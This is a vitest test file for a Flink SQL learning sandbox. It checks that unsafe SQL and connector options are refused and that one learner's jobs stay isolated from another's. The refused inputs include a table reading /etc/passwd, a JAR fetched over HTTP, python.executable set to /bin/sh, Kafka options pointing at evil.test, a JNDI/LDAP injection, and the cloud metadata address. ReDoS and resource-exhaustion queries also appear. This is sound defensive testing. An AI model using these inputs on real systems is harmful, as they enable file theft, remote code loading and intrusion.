/** Group Q over HTTP: what the gate inside Flink lets pass, as a learner asks for it, beside a learner whose query goes on. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Run, runSchema } from '#sandbox/protocol/run.ts';
import { sqlCheckedSchema } from '#sandbox/protocol/sql.ts';
import { SQL_LESSON_ID } from '../../sandbox/sql-lesson.ts';
import { until } from '../../sandbox/test-server.ts';
import type { Name, Product } from '../product.ts';

/** A Flink from nothing takes some 10 s of CPU, and a machine that does other things besides has little of it. */
const START_MS = 180_000;
const REFUSAL_MS = 1000;
const STOP_MS = 3000;
const ENDLESS = 'SELECT id, customer FROM orders;';
const FILE_TABLE = `CREATE TABLE p (l STRING) WITH ('connector'='filesystem', 'path'='file:///etc/passwd', 'format'='csv', 'csv.field-delimiter'='~')`;

const kafkaTable = (options: string) =>
  `CREATE TABLE k (id STRING) WITH ('connector'='kafka', 'topic'='orders', 'format'='json'${options ? `, ${options}` : ''});`;

export function sqlCases(product: Product): void {
  const body = (sql: string) => ({ lesson: SQL_LESSON_ID, files: { 'main.sql': sql } });
  const start = async (sql: string, as: Name = 'ada'): Promise<string> => {
    const { status, body: answer } = await product.api(as)('POST', '/api/runs', { body: body(sql) });
    expect(status).toBe(202);
    return answer.runId;
  };
  const read = async (id: string, as: Name = 'ada') => runSchema.parse((await product.api(as)('GET', `/api/runs/${id}`)).body);
  const isOver = ({ status }: Run) => status === 'finished' || status === 'error';
  const ended = (id: string) => until(() => read(id), isOver, START_MS);
  const run = async (sql: string) => ended(await start(sql));
  const jobsOf = async (name: Name): Promise<{ jobId: string; state: string }[]> =>
    (await product.api(name)('GET', '/api/lens/jobs')).body.jobs;
  const stop = async (id: string) => {
    const begin = performance.now();
    const { body: stopped } = await product.api('ada')('DELETE', `/api/runs/${id}`);
    expect(performance.now() - begin).toBeLessThan(STOP_MS);
    expect(stopped).toMatchObject({ status: 'finished', result: { kind: 'cancelled' } });
  };
  let bobsRun = '';
  let bobsJob = '';

  beforeAll(async () => {
    bobsRun = await start(ENDLESS, 'bob');
    const [, query] = await until(
      async () => (await read(bobsRun, 'bob')).sql?.statements ?? [],
      ([, one]) => (one?.changeCount ?? 0) > 0,
      START_MS,
    );
    bobsJob = query?.jobId ?? '';
  }, START_MS);
  afterAll(async () => {
    await product.api('bob')('DELETE', `/api/runs/${bobsRun}`);
  });

  test(
    'Q00 tables, generated rows, views, windows, joins, inserts and plans are all let through',
    async () => {
      const done =
        await run(`CREATE TABLE big_orders (id STRING, total_cents BIGINT) WITH ('connector'='kafka', 'topic'='big-orders', 'format'='json');
CREATE TABLE gen (n INT, s STRING) WITH ('connector'='datagen', 'number-of-rows'='10');
CREATE VIEW named AS SELECT n, UPPER(s) AS s FROM gen;
SELECT COUNT(*) AS n FROM named;
EXPLAIN SELECT window_start, COUNT(*) FROM TABLE(TUMBLE(TABLE orders, DESCRIPTOR(placed_at), INTERVAL '1' MINUTE)) GROUP BY window_start, window_end;
SET 'table.local-time-zone' = 'UTC';
SELECT a.n FROM gen a JOIN gen b ON a.n = b.n;`);
      expect(done.result).toMatchObject({ kind: 'sql-finished' });
      expect(done.sql?.results.find(({ index }) => index === 4)?.table.rows).toEqual([['10']]);
    },
    START_MS,
  );

  const refused: [id: string, code: string, statements: string[]][] = [
    ['Q01', 'option_not_allowed', [`${FILE_TABLE}; SELECT * FROM p;`]],
    [
      'Q05',
      'statement_not_allowed',
      [`ADD JAR '/opt/flink/lib/flink-cep.jar';`, `ADD JAR 'http://127.0.0.1:8081/x.jar';`, `REMOVE JAR '/x.jar';`, 'SHOW JARS;'],
    ],
    [
      'Q07',
      'option_not_allowed',
      [
        ...[
          'execution.target=local',
          'rest.address=127.0.0.1',
          'pipeline.jars=x',
          'pipeline.classpaths=x',
          'python.executable=/bin/sh',
        ],
        ...['execution.checkpointing.dir=file:///tmp/c', 'env.java.opts.all=-Dx', 'parallelism.default=1000', 'sandbox.prefix=u'],
      ].map((setting) => `SET '${setting.replace('=', "' = '")}';`),
    ],
    [
      'Q10',
      'option_not_allowed',
      [
        kafkaTable(`'properties.bootstrap.servers'='evil.test:9092'`),
        kafkaTable(
          `'properties.sasl.jaas.config'='com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.test";'`,
        ),
        kafkaTable(`'properties.sasl.oauthbearer.token.endpoint.url'='file:///etc/passwd'`),
        kafkaTable(`'properties.ssl.truststore.location'='/etc/passwd'`),
        kafkaTable(`'properties.interceptor.classes'='evil.I'`),
        kafkaTable(`'value.avro-confluent.url'='http://169.254.169.254'`),
        `CREATE TABLE k (id STRING) WITH ('connector'='kafka', 'topic-pattern'='.*', 'format'='json');`,
      ],
    ],
  ];
  test.each(refused)(
    '%s is refused with %s, in under a second, by Run and while typing, and no job comes of it',
    async (_id, code, statements) => {
      for (const statement of statements) {
        const checked = sqlCheckedSchema.parse(
          (await product.api('ada')('POST', '/api/sql/check', { body: body(statement) })).body,
        );
        expect(checked, statement).toMatchObject({ checked: true });
        expect(checked.checked && checked.errors[0]?.code, statement).toBe(code);
        const done = await run(statement);
        expect(done.result, statement).toMatchObject({ kind: 'sql-failed', error: { code } });
        expect(done.result?.durationMs).toBeLessThan(REFUSAL_MS + (done.sql?.statements[0]?.endMs ?? 0));
        expect(done.sql?.statements.filter(({ jobId }) => jobId !== null)).toEqual([]);
      }
    },
    START_MS,
  );

  test(
    'Q08 a neighbour’s job cannot be listed, described or stopped, and its topic does not exist',
    async () => {
      expect(bobsJob).toMatch(/^[0-9a-f]{32}$/);
      for (const sql of [
        'SHOW JOBS;',
        `DESCRIBE JOB '${bobsJob}';`,
        `STOP JOB '${bobsJob}';`,
        `STOP JOB '${bobsJob}' WITH SAVEPOINT;`,
      ])
        expect((await run(sql)).result, sql).toMatchObject({ kind: 'sql-failed', error: { code: 'statement_not_allowed' } });
      expect(await product.api('ada')('DELETE', `/api/runs/${bobsRun}`)).toMatchObject({ status: 404 });
      expect((await jobsOf('ada')).map(({ jobId }) => jobId)).not.toContain(bobsJob);
      expect(await jobsOf('bob')).toMatchObject([{ jobId: bobsJob, state: 'RUNNING' }]);
      const foreign = [...(await product.stack.kafka.listTopics()).keys()].filter((name) => /^u\w{8}\./.test(name));
      expect(foreign.length).toBeGreaterThan(2);
      for (const topic of foreign) {
        const { result } = await run(`SELECT * FROM orders /*+ OPTIONS('topic'='${topic}') */;`);
        expect(result).toMatchObject({ kind: 'sql-failed', error: { code: 'unknown_topic' } });
      }
    },
    START_MS,
  );

  test(
    'Q12 a fifth job is refused, the four before it are ended with the run, and the neighbour’s goes on',
    async () => {
      const table = `CREATE TABLE d (n INT) WITH ('connector'='datagen', 'rows-per-second'='1'); CREATE TABLE h (n INT) WITH ('connector'='blackhole');`;
      const done = await run(`${table} ${'INSERT INTO h SELECT n FROM d; '.repeat(7)}`);
      expect(done.result).toMatchObject({ kind: 'sql-failed', error: { code: 'too_many_jobs' } });
      expect(done.sql?.statements.filter(({ jobId }) => jobId !== null)).toHaveLength(4);
      await until(
        () => jobsOf('ada'),
        (jobs) => jobs.every(({ state }) => state !== 'RUNNING'),
        STOP_MS,
      );
      expect(await jobsOf('bob')).toMatchObject([{ state: 'RUNNING' }]);
    },
    START_MS,
  );

  describe('statements that are too much', () => {
    test.each([
      ['70 KB', 'statement_too_long', `SELECT '${'x'.repeat(70_000)}';`],
      ['20,000 brackets', 'too_complex', `SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)};`],
      ['half a text', 'invalid_sql', "SELECT 'x"],
      ['4,000 statements', 'too_complex', 'SELECT 1;\n'.repeat(4000)],
      ['a zero byte', 'invalid_sql', 'SELECT \u0000 1;'],
      ['a name of 60,000 letters', 'invalid_sql', `SELECT ${'x'.repeat(60_000)};`],
    ])(
      'one of %s is the learner’s, with a code',
      async (_what, code, sql) => {
        const done = await run(sql);
        expect(done).toMatchObject({ status: 'finished', error: null, result: { kind: 'sql-failed' } });
        const codes = code === 'too_complex' ? ['too_complex', 'invalid_sql', 'failed'] : [code];
        expect(codes).toContain(done.result?.kind === 'sql-failed' ? done.result.error.code : '');
      },
      START_MS,
    );

    test.each([
      ['150 statements', 'SELECT 1;\n'.repeat(150), 1],
      ['a pattern that takes for ever', `SELECT REGEXP(REPEAT('a', 60) || '!', '^(a+)+$') AS x FROM (VALUES (1)) AS t(n);`, 0],
      [
        'a product of everything with everything',
        `CREATE TABLE d (n INT) WITH ('connector'='datagen', 'rows-per-second'='9999'); SELECT a.n FROM d a, d b, d c;`,
        1,
      ],
    ])(
      '%s can be stopped within 3 s, and the next run works',
      async (_what, sql, begun) => {
        const id = await start(sql);
        await until(
          () => read(id),
          (one) => (one.sql?.statements.length ?? 0) > begun + 1 && one.status === 'running',
          START_MS,
        );
        await stop(id);
        expect((await run('SELECT 1 AS n;')).result).toMatchObject({ kind: 'sql-finished' });
      },
      2 * START_MS,
    );

    test(
      'ten thousand rows a second for five seconds neither grow the server nor the answer',
      async () => {
        const before = process.memoryUsage().rss;
        const id = await start(
          `CREATE TABLE d (n INT, s STRING) WITH ('connector'='datagen', 'rows-per-second'='9999'); SELECT * FROM d;`,
        );
        const flooded = await until(
          () => read(id),
          ({ elapsedMs = 0, sql }) => elapsedMs > 5000 && (sql?.statements[2]?.changeCount ?? 0) > 0,
          START_MS,
        );
        expect(flooded.sql?.statements[2]?.changeCount).toBeGreaterThan(500);
        expect(JSON.stringify(flooded).length).toBeLessThan(1024 * 1024);
        await stop(id);
        expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
      },
      START_MS,
    );

    test(
      'a text of two billion letters ends its own Flink at most; the next run works and the neighbour’s goes on',
      async () => {
        const done = await run(`SELECT CHAR_LENGTH(REPEAT('x', 2000000000)) AS n FROM (VALUES (1)) AS t(n);`);
        expect(done.status === 'error' || done.result?.kind === 'sql-failed' || done.result?.kind === 'sql-finished').toBe(true);
        expect((await run('SELECT 1 AS n;')).result).toMatchObject({ kind: 'sql-finished' });
        expect(await jobsOf('bob')).toMatchObject([{ jobId: bobsJob, state: 'RUNNING' }]);
      },
      2 * START_MS,
    );

    test(
      'two runs at the same moment are one after the other, and one of them is cancelled',
      async () => {
        const ids = await Promise.all([start(ENDLESS), start('SELECT 2 AS n;')]);
        const runs = await Promise.all(ids.map(ended));
        expect(runs.map(({ result }) => result?.kind).sort()).toEqual(['cancelled', 'sql-finished']);
        await until(
          () => jobsOf('ada'),
          (jobs) => jobs.every(({ state }) => state !== 'RUNNING'),
          STOP_MS,
        );
      },
      START_MS,
    );
  });
}
